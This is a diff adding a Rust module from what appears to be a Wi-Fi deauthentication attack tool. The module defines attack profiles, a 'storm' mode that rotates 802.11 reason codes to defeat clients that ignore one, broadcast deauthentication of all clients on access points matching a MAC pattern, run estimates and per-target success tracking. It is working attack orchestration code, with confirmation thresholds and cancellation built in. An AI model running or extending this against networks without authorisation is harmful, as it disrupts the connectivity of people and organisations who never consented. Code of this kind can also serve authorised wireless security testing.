@@ -0,0 +1,373 @@
+//! Attack profiles and run tracking
+//! 
+//! An attack profile describes a bounded deauthentication run against one or
+//! more targets. Running a profile on the engine yields an `AttackHandle` that
+//! resolves to an `AttackSummary` once the run finishes or is stopped.
+
+use super::metrics::{TargetMetrics, TargetMetricsCollector};
+use super::packet::{reason_codes, MacAddress, MacPattern, ReasonCode};
+use crate::{DeauthError, Result};
+use parking_lot::Mutex;
+use std::collections::HashMap;
+use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+use std::sync::{Arc, OnceLock};
+use std::time::{Duration, Instant};
+use tokio::sync::Notify;
+use tokio::task::JoinHandle;
+use tokio_util::sync::CancellationToken;
+
+/// A client/access point pair to deauthenticate
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct AttackTarget {
+    pub target: MacAddress,
+    pub access_point: MacAddress,
+}
+
+/// Attack profile
+#[derive(Debug, Clone)]
+pub struct AttackProfile {
+    /// Targets attacked in round-robin order
+    pub targets: Vec<AttackTarget>,
+    
+    /// Reason code carried in every frame; `None` uses the engine's default
+    pub reason_code: Option<ReasonCode>,
+    
+    /// Reason codes cycled once per round; overrides `reason_code` when non-empty
+    pub reason_codes: Vec<ReasonCode>,
+    
+    /// Frames sent to each target
+    pub frames_per_target: u32,
+    
+    /// Delay between rounds over all targets
+    pub interval: Duration,
+    
+    /// Channel the targets operate on, if known
+    pub channel: Option<u8>,
+}
+
+impl Default for AttackProfile {
+    fn default() -> Self {
+        Self {
+            targets: Vec::new(),
+            reason_code: None,
+            reason_codes: Vec::new(),
+            frames_per_target: 100,
+            interval: Duration::from_millis(100),
+            channel: None,
+        }
+    }
+}
+
+/// Reason codes rotated by a storm profile
+///
+/// Clients that shrug off one reason code often honour another, so a storm
+/// walks through the codes stations are most likely to act on.
+pub const STORM_REASON_CODES: [ReasonCode; 6] = [
+    reason_codes::UNSPECIFIED,
+    reason_codes::PREV_AUTH_NOT_VALID,
+    reason_codes::DEAUTH_LEAVING,
+    reason_codes::DISASSOC_INACTIVITY,
+    reason_codes::CLASS2_FRAME_FROM_NONAUTH_STA,
+    reason_codes::CLASS3_FRAME_FROM_NONASSOC_STA,
+];
+
+impl AttackProfile {
+    /// Create a storm profile that cycles through `STORM_REASON_CODES`
+    pub fn storm(targets: Vec<AttackTarget>) -> Self {
+        Self {
+            targets,
+            reason_codes: STORM_REASON_CODES.to_vec(),
+            ..Self::default()
+        }
+    }
+    
+    /// Create a profile deauthenticating every client of the access points matching `pattern`
+    ///
+    /// Each matching BSSID is targeted with broadcast deauthentication.
+    pub fn matching(pattern: &MacPattern, access_points: impl IntoIterator<Item = MacAddress>) -> Self {
+        let broadcast = MacAddress::new([0xFF; 6]);
+        let targets = access_points
+            .into_iter()
+            .filter(|&access_point| pattern.matches(access_point))
+            .map(|access_point| AttackTarget { target: broadcast, access_point })
+            .collect();
+        
+        Self {
+            targets,
+            ..Self::default()
+        }
+    }
+    
+    /// Validate the profile against the engine's target limit
+    pub fn validate(&self, max_targets: usize) -> Result<()> {
+        if self.targets.is_empty() {
+            return Err(DeauthError::ConfigError("Attack profile has no targets".to_string()));
+        }
+        
+        if self.targets.len() > max_targets {
+            return Err(DeauthError::ConfigError(format!(
+                "Attack profile has {} targets, engine allows at most {}",
+                self.targets.len(), max_targets
+            )));
+        }
+        
+        Ok(())
+    }
+}
+
+/// Total frames above which an attack asks for confirmation
+pub const LARGE_ATTACK_FRAMES: u64 = 100_000;
+
+/// Duration above which an attack asks for confirmation
+pub const LARGE_ATTACK_DURATION: Duration = Duration::from_secs(10 * 60);
+
+/// Pre-launch estimate of an attack profile's size
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub struct AttackEstimate {
+    /// Frames the profile sends over all targets
+    pub total_frames: u64,
+    
+    /// Expected run time: the rounds' pacing, or longer if the engine's
+    /// rate limit cannot keep up
+    pub duration: Duration,
+    
+    /// Average injection rate over the run (packets/second)
+    pub aggregate_rate: f64,
+}
+
+impl AttackEstimate {
+    /// Estimate `profile` on an engine injecting at most `max_rate` packets/second
+    pub fn new(profile: &AttackProfile, max_rate: u64) -> Self {
+        let total_frames = profile.targets.len() as u64 * u64::from(profile.frames_per_target);
+        
+        // One interval follows every round; the rate limit bounds it from below
+        let paced = profile.interval.checked_mul(profile.frames_per_target).unwrap_or(Duration::MAX);
+        let limited = Duration::from_secs_f64(total_frames as f64 / max_rate.max(1) as f64);
+        let duration = paced.max(limited);
+        
+        let aggregate_rate = if duration.is_zero() {
+            0.0
+        } else {
+            total_frames as f64 / duration.as_secs_f64()
+        };
+        
+        Self {
+            total_frames,
+            duration,
+            aggregate_rate,
+        }
+    }
+    
+    /// Whether the attack is big enough that the user should confirm it
+    pub fn is_large(&self) -> bool {
+        self.total_frames > LARGE_ATTACK_FRAMES || self.duration > LARGE_ATTACK_DURATION
+    }
+}
+
+impl std::fmt::Display for AttackEstimate {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(
+            f,
+            "{} frames over {}s at {:.0} pps",
+            self.total_frames,
+            self.duration.as_secs(),
+            self.aggregate_rate
+        )
+    }
+}
+
+/// Final summary of an attack run
+#[derive(Debug, Clone)]
+pub struct AttackSummary {
+    /// Frames processed by the workers
+    pub total_packets: u64,
+    
+    /// Frames injected successfully
+    pub successful_packets: u64,
+    
+    /// Bytes injected
+    pub bytes_transmitted: u64,
+    
+    /// Success rate (0.0 - 1.0)
+    pub success_rate: f64,
+    
+    /// Wall-clock duration of the run
+    pub duration: Duration,
+    
+    /// Delay from starting the run to the first successful send
+    ///
+    /// Covers queueing and worker scheduling; `None` if nothing was sent.
+    pub time_to_first_packet: Option<Duration>,
+    
+    /// Whether the run was stopped before sending every frame
+    pub stopped: bool,
+    
+    /// Per-target breakdown
+    pub per_target: Vec<TargetMetrics>,
+}
+
+/// Shared state between a running attack and the workers serving it
+pub(crate) struct AttackTracker {
+    cancel: CancellationToken,
+    pending: AtomicU64,
+    packets_sent: AtomicU64,
+    successful: AtomicU64,
+    bytes_sent: AtomicU64,
+    targets: TargetMetricsCollector,
+    outcomes: Mutex<HashMap<MacAddress, (u32, u32)>>,
+    idle: Notify,
+    started: Instant,
+    first_success: OnceLock<Duration>,
+}
+
+impl std::fmt::Debug for AttackTracker {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("AttackTracker")
+            .field("stopped", &self.is_stopped())
+            .field("pending", &self.pending)
+            .field("packets_sent", &self.packets_sent)
+            .finish_non_exhaustive()
+    }
+}
+
+impl AttackTracker {
+    pub(crate) fn new(cancel: CancellationToken) -> Self {
+        Self {
+            cancel,
+            pending: AtomicU64::new(0),
+            packets_sent: AtomicU64::new(0),
+            successful: AtomicU64::new(0),
+            bytes_sent: AtomicU64::new(0),
+            targets: TargetMetricsCollector::new(),
+            outcomes: Mutex::new(HashMap::new()),
+            idle: Notify::new(),
+            started: Instant::now(),
+            first_success: OnceLock::new(),
+        }
+    }
+    
+    pub(crate) fn stop(&self) {
+        self.cancel.cancel();
+    }
+    
+    pub(crate) fn is_stopped(&self) -> bool {
+        self.cancel.is_cancelled()
+    }
+    
+    pub(crate) fn cancellation_token(&self) -> &CancellationToken {
+        &self.cancel
+    }
+    
+    /// Register a request queued for this attack
+    pub(crate) fn add_pending(&self) {
+        self.pending.fetch_add(1, Ordering::AcqRel);
+    }
+    
+    /// Record the outcome of a queued request
+    pub(crate) fn record(&self, target: MacAddress, bytes: usize, success: bool) {
+        self.packets_sent.fetch_add(1, Ordering::Relaxed);
+        self.bytes_sent.fetch_add(bytes as u64, Ordering::Relaxed);
+        if success {
+            self.successful.fetch_add(1, Ordering::Relaxed);
+            self.first_success.get_or_init(|| self.started.elapsed());
+        }
+        
+        self.targets.record_target_activity(target, success);
+        
+        let mut outcomes = self.outcomes.lock();
+        let (sent, failed) = outcomes.entry(target).or_default();
+        if success {
+            *sent = sent.saturating_add(1);
+        } else {
+            *failed = failed.saturating_add(1);
+        }
+        drop(outcomes);
+        
+        self.complete_one();
+    }
+    
+    /// Frames sent to and failed for `target` so far
+    pub(crate) fn outcome(&self, target: MacAddress) -> (u32, u32) {
+        self.outcomes.lock().get(&target).copied().unwrap_or_default()
+    }
+    
+    /// Drop a queued request without sending it
+    pub(crate) fn skip(&self) {
+        self.complete_one();
+    }
+    
+    fn complete_one(&self) {
+        if self.pending.fetch_sub(1, Ordering::AcqRel) == 1 {
+            self.idle.notify_waiters();
+        }
+    }
+    
+    /// Wait until every queued request has been processed or the engine stops
+    pub(crate) async fn wait_idle(&self, running: &AtomicBool) {
+        loop {
+            let idle = self.idle.notified();
+            
+            if self.pending.load(Ordering::Acquire) == 0 || !running.load(Ordering::Relaxed) {
+                return;
+            }
+            
+            // Bounded wait so an engine shutdown is noticed even without a notification
+            let _ = tokio::time::timeout(Duration::from_millis(50), idle).await;
+        }
+    }
+    
+    /// Summarize the attack so far
+    ///
+    /// The duration and time to first packet are both measured from the
+    /// tracker's creation, so the warm-up never exceeds the duration.
+    pub(crate) fn summary(&self) -> AttackSummary {
+        let total_packets = self.packets_sent.load(Ordering::Relaxed);
+        let successful_packets = self.successful.load(Ordering::Relaxed);
+        let success_rate = if total_packets > 0 {
+            successful_packets as f64 / total_packets as f64
+        } else {
+            0.0
+        };
+        
+        AttackSummary {
+            total_packets,
+            successful_packets,
+            bytes_transmitted: self.bytes_sent.load(Ordering::Relaxed),
+            success_rate,
+            duration: self.started.elapsed(),
+            time_to_first_packet: self.first_success.get().copied(),
+            stopped: self.is_stopped(),
+            per_target: self.targets.get_all_targets(),
+        }
+    }
+}
+
+/// Handle to a running attack
+pub struct AttackHandle {
+    pub(crate) tracker: Arc<AttackTracker>,
+    pub(crate) task: JoinHandle<AttackSummary>,
+}
+
+impl AttackHandle {
+    /// Stop the attack; frames still queued are dropped
+    pub fn stop(&self) {
+        self.tracker.stop();
+    }
+    
+    /// Token that cancels this attack, for use from other tasks
+    pub fn cancellation_token(&self) -> CancellationToken {
+        self.tracker.cancellation_token().clone()
+    }
+    
+    /// Check if the attack has finished
+    pub fn is_finished(&self) -> bool {
+        self.task.is_finished()
+    }
+    
+    /// Wait for the attack to finish and return its summary
+    pub async fn wait(self) -> Result<AttackSummary> {
+        self.task
+            .await
+            .map_err(|e| DeauthError::InjectionError(format!("Attack task failed: {}", e)))
+    }
+}
\ No newline at end of file